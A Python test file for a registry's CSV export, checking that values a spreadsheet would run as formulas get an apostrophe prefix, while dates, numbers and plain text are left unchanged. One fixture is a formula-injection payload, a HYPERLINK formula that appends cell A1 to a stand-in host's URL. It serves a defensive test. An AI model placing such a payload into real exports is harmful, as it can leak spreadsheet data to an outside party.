"""The registry's CSV exports: a text a spreadsheet would run as a formula is kept as text."""

from __future__ import annotations

import csv
import io
from datetime import date

from ketenherstel.registry.export import notifications_csv, to_csv
from ketenherstel.registry.results import Freshness, RescreenItem


def _item(**kw: object) -> RescreenItem:
    base: dict[str, object] = {
        "reference": "-vog-1",
        "consumer": "justis",
        "profile": "vog-np",
        "skn": "SKN-0000000001",
        "query_date": date(2025, 8, 1),
        "answered_at": 1_754_000_000.0,
        "direction": "missed",
        "case_key": "10-000001-25",
        "state_then": None,
        "state_now": "veroordeeld",
        "fact_date": date(2025, 7, 20),
        "known_at": 1_757_000_000.0,
    }
    base.update(kw)
    return RescreenItem(**base)  # type: ignore[arg-type]


def test_an_operators_text_that_a_spreadsheet_would_run_is_kept_as_text() -> None:
    item = _item(
        work_state="closed",
        assignee="@ann",
        outcome="+31 20 000 0000",
        note='=HYPERLINK("http://example.invalid/?"&A1,"klik")',
        decision="\tafgegeven",
    )
    fresh = Freshness(1_757_100_000.0, ())
    [row] = list(csv.DictReader(io.StringIO(to_csv([item], fresh).decode("utf-8"))))
    assert row["note"] == '\'=HYPERLINK("http://example.invalid/?"&A1,"klik")'
    assert row["outcome"] == "'+31 20 000 0000"
    assert row["assignee"] == "'@ann"
    assert row["decision"] == "'\tafgegeven"
    assert row["reference"] == "'-vog-1"  # a reference may begin with '-'
    # Dates, moments and numbers are written as they are.
    assert row["queryDate"] == "2025-08-01"
    assert row["answeredAt"] == "2025-07-31T22:13:20Z"
    assert float(row["delayDays"]) == item.delay_days
    assert row["caseKey"] == "10-000001-25"
    assert row["freshness"] == "none"


def test_a_plain_text_is_left_alone() -> None:
    item = _item(reference="vog-2", note="checked - fine", outcome="kept")
    [row] = list(csv.DictReader(io.StringIO(to_csv([item], Freshness(0.0, ())).decode("utf-8"))))
    assert (row["reference"], row["note"], row["outcome"]) == ("vog-2", "checked - fine", "kept")
    assert notifications_csv([], Freshness(0.0, ())).decode("utf-8").startswith("notificationId,")
